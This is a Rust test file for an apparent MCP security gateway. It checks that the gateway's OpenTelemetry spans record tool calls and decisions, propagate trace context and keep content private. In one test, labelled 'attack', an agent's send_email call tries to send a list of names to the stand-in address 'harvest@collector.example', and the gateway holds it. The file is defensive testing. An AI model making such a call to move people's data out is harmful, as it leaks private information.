//! OpenTelemetry: what a collector on OpenTelemetry's own types is sent of MCP requests.

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};

use serde_json::{Value, json};

use crate::here::{Here, Running, peers, python};
use crate::{TASK, call, done, runtime};

const PARENT: &str = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
const KEY: &str = "the collector's key";

/// A collector; its address, and what it prints.
fn collector() -> (Running, String, BufReader<std::process::ChildStdout>) {
    let mut child: Child = Command::new(python())
        .arg(peers().join("collector.py"))
        .arg(json!({"key": KEY}).to_string())
        .stdout(Stdio::piped())
        .spawn()
        .expect("Python, which `make peers` needs too");
    let mut lines = BufReader::new(child.stdout.take().unwrap());
    let mut address = String::new();
    lines.read_line(&mut address).unwrap();
    assert!(address.starts_with("http://"), "`make peers` first");
    (Running(child), address.trim().to_owned(), lines)
}

/// The next span of this name.
fn span(lines: &mut BufReader<std::process::ChildStdout>, name: &str) -> Value {
    loop {
        let mut line = String::new();
        assert!(lines.read_line(&mut line).unwrap() > 0, "no span {name}");
        let span: Value = serde_json::from_str(&line).unwrap();
        assert!(span.get("refused").is_none(), "{span}");
        if span["name"] == name {
            return span;
        }
    }
}

#[test]
fn a_collector_sees_who_asked_for_what_and_what_was_decided() {
    let (_collector, address, mut lines) = collector();
    let more = format!(
        "[otlp.export]\nurl = \"{address}\"\nheaders = {{ \"authorization\" = \"{KEY}\" }}\n"
    );
    let here = Here::new("telemetry", &more);
    runtime().block_on(async {
        let client = here.client("clerk's key").await;
        let mut read = call("read_letter", &json!({"name": "offsite"}), Some(TASK));
        let meta = read.meta.as_mut().unwrap();
        meta.insert("traceparent".to_owned(), json!(PARENT));
        let (error, text) = done(&client, read).await;
        assert!(!error, "{text}");
        let attack = json!({"recipient": "harvest@collector.example", "body": "Ann, Bob, Cleo"});
        let (error, _) = done(&client, call("send_email", &attack, Some(TASK))).await;
        assert!(error);
    });
    let first = span(&mut lines, "initialize");
    assert_eq!(first["service"], "masec");
    let read = span(&mut lines, "tools/call read_letter");
    assert_eq!(read["trace"], "4bf92f3577b34da6a3ce929d0e0e4736");
    assert_eq!(read["parent"], "00f067aa0ba902b7");
    assert_eq!(read["kind"], 2);
    assert_eq!(read["status"], 0);
    assert!(read["took"].as_i64().unwrap() > 0);
    let said = &read["attributes"];
    for (key, value) in [
        ("mcp.method.name", "tools/call"),
        ("gen_ai.operation.name", "execute_tool"),
        ("gen_ai.tool.name", "read_letter"),
        ("gen_ai.conversation.id", "t1"),
        ("masec.agent", "clerk"),
        ("masec.server", "office"),
        ("masec.decision", "allow"),
    ] {
        assert_eq!(said[key], value, "{key} in {said}");
    }
    let held = span(&mut lines, "tools/call send_email");
    assert_eq!(held["parent"], Value::Null);
    assert_eq!(held["status"], 2);
    assert_eq!(held["attributes"]["masec.decision"], "hold");
    assert_eq!(held["attributes"]["error.type"], "hold");
    let rules = held["attributes"]["masec.rules"].as_array().unwrap();
    assert!(!rules.is_empty(), "{held}");
    // It is the hold that an operator sees.
    let id = held["attributes"]["masec.interaction.id"].as_str().unwrap();
    let waiting = here.held();
    assert!(waiting.iter().any(|one| one["id"] == id), "{waiting:?}");
    // Content stays here, and so does what the person wants.
    for text in ["harvest", "offsite", "Ann", "What date"] {
        assert!(!read.to_string().contains(text) && !held.to_string().contains(text));
    }
    let metrics = here.metrics();
    assert!(
        metrics.contains("masec_otlp_spans_total{outcome=\"dropped\"} 0"),
        "{metrics}"
    );
    assert!(metrics.contains("masec_forgotten_total{what=\"passages\"} 0"));
}

#[test]
fn the_place_in_a_trace_is_carried_on_to_the_server() {
    let (_collector, address, mut lines) = collector();
    let command = json!(["python3", peers().join("echo_meta.py")]);
    let more = format!(
        "[[servers]]\nname = \"echo\"\ncommand = {command}\n[[endpoints]]\npath = \"/mcp/echo\"\nservers = [\"echo\"]\n\
         [otlp.export]\nurl = \"{address}\"\nheaders = {{ \"authorization\" = \"{KEY}\" }}\ncontents = true\n"
    );
    let here = Here::new("traceparent", &more);
    let told = runtime().block_on(async {
        let client = here.client_at("/mcp/echo", "clerk's key").await;
        let (error, text) = done(&client, call("echo", &json!({"said": "blue"}), Some(TASK))).await;
        assert!(!error, "{text}");
        serde_json::from_str::<Value>(&text).unwrap()
    });
    let sent = span(&mut lines, "tools/call echo");
    let place = told["traceparent"]
        .as_str()
        .unwrap_or_else(|| panic!("{told}"));
    let (trace, id) = (
        sent["trace"].as_str().unwrap(),
        sent["span"].as_str().unwrap(),
    );
    assert_eq!(place, format!("00-{trace}-{id}-01"));
    assert!(told.get("masec/task").is_none(), "{told}");
    // The operator wants content in this one.
    assert_eq!(
        sent["attributes"]["gen_ai.tool.call.arguments"],
        r#"{"arguments":{"said":"blue"},"name":"echo"}"#
    );
    assert!(
        sent["attributes"]["gen_ai.tool.call.result"]
            .as_str()
            .unwrap()
            .contains("traceparent")
    );
}

/// With a collector that is not there nothing waits, and what is lost is counted.
#[test]
fn a_collector_that_is_not_there_delays_nobody() {
    let more = "[otlp.export]\nurl = \"http://127.0.0.1:9\"\nqueue = 4\n";
    let here = Here::new("no-collector", more);
    let begun = std::time::Instant::now();
    runtime().block_on(async {
        let client = here.client("clerk's key").await;
        for _ in 0..50 {
            let letter = json!({"name": "plain"});
            let (error, _) = done(&client, call("read_letter", &letter, None)).await;
            assert!(!error);
        }
    });
    assert!(begun.elapsed().as_secs() < 20, "{:?}", begun.elapsed());
}
